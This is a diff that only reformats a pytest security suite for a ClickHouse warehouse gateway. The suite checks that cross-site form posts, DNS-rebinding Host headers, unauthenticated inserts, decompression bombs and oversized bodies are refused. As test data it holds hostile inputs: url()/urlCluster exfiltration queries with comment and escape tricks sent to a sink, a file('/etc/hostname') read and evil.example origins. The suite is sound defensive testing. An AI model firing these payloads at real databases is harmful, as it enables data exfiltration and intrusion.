@@ -29,12 +29,25 @@ ATTACKER_LOGIN = "sec-browser-attacker"
 
 def _auth(url: str) -> str:
     parts = urlsplit(url)
-    return "Basic " + base64.b64encode(f"{unquote(parts.username or '')}:{unquote(parts.password or '')}".encode()
-                                       ).decode()
+    return (
+        "Basic "
+        + base64.b64encode(
+            f"{unquote(parts.username or '')}:{unquote(parts.password or '')}".encode()
+        ).decode()
+    )
 
 
-def _request(url: str, method: str, path: str, body: bytes = b"", *, auth: bool = True, host: str | None = None,
-             headers: dict[str, str] | None = None, timeout: float = 60) -> tuple[int, str]:
+def _request(
+    url: str,
+    method: str,
+    path: str,
+    body: bytes = b"",
+    *,
+    auth: bool = True,
+    host: str | None = None,
+    headers: dict[str, str] | None = None,
+    timeout: float = 60,
+) -> tuple[int, str]:
     """One request with full control of Host and credentials; returns (status, body text)."""
     parts = urlsplit(url)
     conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
@@ -54,17 +67,24 @@ def _request(url: str, method: str, path: str, body: bytes = b"", *, auth: bool 
 
 
 def _attacker_rows(ch) -> int:
-    return ch.query("SELECT count() FROM app.users WHERE login = {l:String}", parameters={"l": ATTACKER_LOGIN}
-                    ).result_rows[0][0]
+    return ch.query(
+        "SELECT count() FROM app.users WHERE login = {l:String}", parameters={"l": ATTACKER_LOGIN}
+    ).result_rows[0][0]
 
 
 def _table_exists(ch, name: str) -> bool:
-    return bool(ch.query("SELECT count() FROM system.tables WHERE database = 'default' AND name = {n:String}",
-                         parameters={"n": name}).result_rows[0][0])
+    return bool(
+        ch.query(
+            "SELECT count() FROM system.tables WHERE database = 'default' AND name = {n:String}",
+            parameters={"n": name},
+        ).result_rows[0][0]
+    )
 
 
-INSERT_USER = (f"INSERT INTO app.users (tenant_id, login, role, password_hash) "
-               f"VALUES ('sec_t1', '{ATTACKER_LOGIN}', 'pm', 'x')")
+INSERT_USER = (
+    f"INSERT INTO app.users (tenant_id, login, role, password_hash) "
+    f"VALUES ('sec_t1', '{ATTACKER_LOGIN}', 'pm', 'x')"
+)
 
 
 # --- finding 1: no credential -------------------------------------------------------------------------------------
@@ -85,16 +105,27 @@ def test_request_without_the_secret_is_refused_with_a_clickhouse_error(ch, wareh
             headers.update({"X-ClickHouse-User": "default", "X-ClickHouse-Key": "guess"})
         elif auth_kind == "wrong-param":
             path = "/?user=default&password=guess"
-        status, text = _request(warehouse_url, "POST", path, INSERT_USER.encode(), auth=False, headers=headers)
-        assert status == 401 and text.startswith("Code: 516.") and "AUTHENTICATION_FAILED" in text, (auth_kind, text)
+        status, text = _request(
+            warehouse_url, "POST", path, INSERT_USER.encode(), auth=False, headers=headers
+        )
+        assert status == 401 and text.startswith("Code: 516.") and "AUTHENTICATION_FAILED" in text, (
+            auth_kind,
+            text,
+        )
         assert unquote(urlsplit(warehouse_url).password or "") not in text
     assert _attacker_rows(ch) == 0
     # Stock clickhouse-connect without the password fails loudly; with it (the X-ClickHouse-Key way too) it works.
     parts = urlsplit(warehouse_url)
     with pytest.raises(DatabaseError, match="516|Authentication"):
         clickhouse_connect.get_client(host=parts.hostname, port=parts.port, username="default", password="")
-    status, text = _request(warehouse_url, "POST", "/", b"SELECT 40 + 2", auth=False,
-                            headers={"X-ClickHouse-User": "default", "X-ClickHouse-Key": unquote(parts.password or "")})
+    status, text = _request(
+        warehouse_url,
+        "POST",
+        "/",
+        b"SELECT 40 + 2",
+        auth=False,
+        headers={"X-ClickHouse-User": "default", "X-ClickHouse-Key": unquote(parts.password or "")},
+    )
     assert (status, text) == (200, "42\n")
 
 
@@ -130,7 +161,9 @@ def attacker_site() -> Iterator[tuple[str, dict[str, bytes]]]:
         server.server_close()
 
 
-def test_a_web_page_cannot_insert_a_user_nor_create_a_table_through_chromium(ch, warehouse_url, attacker_site):
+def test_a_web_page_cannot_insert_a_user_nor_create_a_table_through_chromium(
+    ch, warehouse_url, attacker_site
+):
     """The reproduced attack: a page auto-submits a form POST (query=INSERT INTO app.users ...) and loads an image
     whose URL is `GET /?query=CREATE TABLE ...`. Both requests reach the warehouse and are refused."""
     from playwright.sync_api import sync_playwright
@@ -151,8 +184,10 @@ def test_a_web_page_cannot_insert_a_user_nor_create_a_table_through_chromium(ch,
         try:
             page = browser.new_page()
             page.set_default_timeout(90_000)
-            page.on("response", lambda r: statuses.__setitem__(r.request.method, r.status)
-                    if f":{port}/" in r.url else None)
+            page.on(
+                "response",
+                lambda r: statuses.__setitem__(r.request.method, r.status) if f":{port}/" in r.url else None,
+            )
             with page.expect_response(lambda r: r.request.method == "POST" and f":{port}/" in r.url):
                 page.goto(f"{site}/evil.html")
         finally:
@@ -163,14 +198,20 @@ def test_a_web_page_cannot_insert_a_user_nor_create_a_table_through_chromium(ch,
 
 
 def test_cross_site_origin_is_refused_even_with_the_secret(ch, warehouse_url):
-    for headers in ({"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"},
-                    {"Sec-Fetch-Site": "same-site"}, {"Origin": "http://127.0.0.1:1"}):
+    for headers in (
+        {"Origin": "http://evil.example"},
+        {"Origin": "null"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Sec-Fetch-Site": "same-site"},
+        {"Origin": "http://127.0.0.1:1"},
+    ):
         status, text = _request(warehouse_url, "POST", "/", INSERT_USER.encode(), headers=headers)
         assert status == 403 and "ACCESS_DENIED" in text, (headers, text)
     assert _attacker_rows(ch) == 0
     port = urlsplit(warehouse_url).port
-    assert _request(warehouse_url, "POST", "/", b"SELECT 1", headers={"Origin": f"http://localhost:{port}"}
-                    ) == (200, "1\n")
+    assert _request(
+        warehouse_url, "POST", "/", b"SELECT 1", headers={"Origin": f"http://localhost:{port}"}
+    ) == (200, "1\n")
 
 
 def test_a_rebinding_host_cannot_read_a_local_file(warehouse_url):
@@ -180,8 +221,9 @@ def test_a_rebinding_host_cannot_read_a_local_file(warehouse_url):
     body = b"SELECT * FROM file('/etc/hostname', 'LineAsString')"
     for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.:{port}", ""):
         for auth in (False, True):
-            status, text = _request(warehouse_url, "POST", "/", body, auth=auth, host=host,
-                                    headers={"Content-Type": "text/plain"})
+            status, text = _request(
+                warehouse_url, "POST", "/", body, auth=auth, host=host, headers={"Content-Type": "text/plain"}
+            )
             assert status == 403 and "ACCESS_DENIED" in text, (host, auth, text)
     assert _request(warehouse_url, "POST", "/", b"SELECT 1", host=f"localhost:{port}") == (200, "1\n")
 
@@ -193,7 +235,10 @@ def test_get_is_read_only(ch, warehouse_url):
             status, text = _request(warehouse_url, "GET", "/?query=" + quote(sql) + extra)
             assert status >= 400 and "READONLY" in text, (sql, extra, text)
     assert not _table_exists(ch, table) and _attacker_rows(ch) == 0
-    assert _request(warehouse_url, "GET", "/?query=" + quote("SELECT 40 + 2") + "&max_threads=1") == (200, "42\n")
+    assert _request(warehouse_url, "GET", "/?query=" + quote("SELECT 40 + 2") + "&max_threads=1") == (
+        200,
+        "42\n",
+    )
     status, text = _request(warehouse_url, "GET", "/?session_id=s1&query=" + quote("SELECT 1"))
     assert status >= 400 and "POST" in text
 
@@ -241,7 +286,7 @@ def _exfiltration_statements(sink: str) -> list[str]:
         f"SELECT * FROM url('{sink}/r', 'TSV', 'a String')",
         f"SELECT * FROM URL /* nested /* comment */ */ ('{sink}/c', 'TSV', 'a String')",
         f"SELECT * FROM `\\x75rl`('{sink}/e', 'TSV', 'a String')",
-        f'SELECT * FROM "url"(\'{sink}/q\', \'TSV\', \'a String\')',
+        f"SELECT * FROM \"url\"('{sink}/q', 'TSV', 'a String')",
         f"SELECT $$'$$ AS x FROM url('{sink}/d', 'TSV', 'a String') -- '",
         f"SELECT 1; SELECT * FROM urlCluster('default', '{sink}/m', 'TSV', 'a String')",
         f"CREATE TABLE default.sec_url_engine (a String) ENGINE = URL('{sink}/t', 'TSV')",
@@ -261,8 +306,13 @@ def test_url_exfiltration_and_file_read_are_refused(ch, warehouse_url, listener)
         status, text = _request(warehouse_url, "POST", "/", sql.encode())
         assert status == 403 and "FUNCTION_NOT_ALLOWED" in text, (sql, text)
     # The same through the form body clickhouse-connect uses, and through stock clickhouse-connect itself.
-    status, text = _request(warehouse_url, "POST", "/", ("query=" + quote(_exfiltration_statements(sink)[0])).encode(),
-                            headers={"Content-Type": "application/x-www-form-urlencoded"})
+    status, text = _request(
+        warehouse_url,
+        "POST",
+        "/",
+        ("query=" + quote(_exfiltration_statements(sink)[0])).encode(),
+        headers={"Content-Type": "application/x-www-form-urlencoded"},
+    )
     assert status == 403, text
     with pytest.raises(DatabaseError, match="FUNCTION_NOT_ALLOWED"):
         ch.command(_exfiltration_statements(sink)[0])
@@ -292,14 +342,20 @@ def _start_long_query(url: str, alias: str, query_id: str) -> socket.socket:
     parts = urlsplit(url)
     sock = socket.create_connection((parts.hostname, parts.port))
     body = LONG_QUERY.format(alias=alias).encode()
-    sock.sendall(f"POST /?query_id={quote(query_id, safe='')} HTTP/1.1\r\n".encode() + http_head(url)
-                 + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
+    sock.sendall(
+        f"POST /?query_id={quote(query_id, safe='')} HTTP/1.1\r\n".encode()
+        + http_head(url)
+        + f"Content-Length: {len(body)}\r\n\r\n".encode()
+        + body
+    )
     return sock
 
 
 def _running(ch, alias: str) -> int:
-    return ch.query("SELECT count() FROM system.processes WHERE query LIKE {p:String} AND query_id != queryID()",
-                    parameters={"p": f"%{alias}%FROM numbers%"}).result_rows[0][0]
+    return ch.query(
+        "SELECT count() FROM system.processes WHERE query LIKE {p:String} AND query_id != queryID()",
+        parameters={"p": f"%{alias}%FROM numbers%"},
+    ).result_rows[0][0]
 
 
 def _wait(cond, what: str, limit: float = 60) -> None:
@@ -355,9 +411,11 @@ def test_decompression_bombs_are_refused_without_memory_or_disk(ch, warehouse_ur
     gbomb = gzip.compress(b"SELECT 1 -- " + bytes(200 << 20), compresslevel=1)
     tmp = Path(os.environ["MRM_DATA_DIR"]) / "tmp"
     before = _server_rss(warehouse_url)
-    cases = [("/?query=" + quote("INSERT INTO default.sec_bomb FORMAT RawBLOB"), zbomb, "zstd"),  # insert data
-             ("/", _zstd_bomb(256 << 20), "zstd"),  # a query body
-             ("/", gbomb, "gzip")]
+    cases = [
+        ("/?query=" + quote("INSERT INTO default.sec_bomb FORMAT RawBLOB"), zbomb, "zstd"),  # insert data
+        ("/", _zstd_bomb(256 << 20), "zstd"),  # a query body
+        ("/", gbomb, "gzip"),
+    ]
     for path, payload, encoding in cases:
         t0 = time.monotonic()
         status, text = _request(warehouse_url, "POST", path, payload, headers={"Content-Encoding": encoding})
@@ -372,6 +430,10 @@ def test_decompression_bombs_are_refused_without_memory_or_disk(ch, warehouse_ur
 def test_oversized_body_is_refused_before_it_is_read(warehouse_url):
     parts = urlsplit(warehouse_url)
     with socket.create_connection((parts.hostname, parts.port), timeout=60) as s:
-        s.sendall(b"POST / HTTP/1.1\r\n" + http_head(warehouse_url) + b"Content-Length: 999999999999\r\n\r\nSELECT 1")
+        s.sendall(
+            b"POST / HTTP/1.1\r\n"
+            + http_head(warehouse_url)
+            + b"Content-Length: 999999999999\r\n\r\nSELECT 1"
+        )
         reply = s.recv(65536)
     assert reply.startswith(b"HTTP/1.1 413") and b"TOO_MANY_BYTES" in reply, reply[:300]
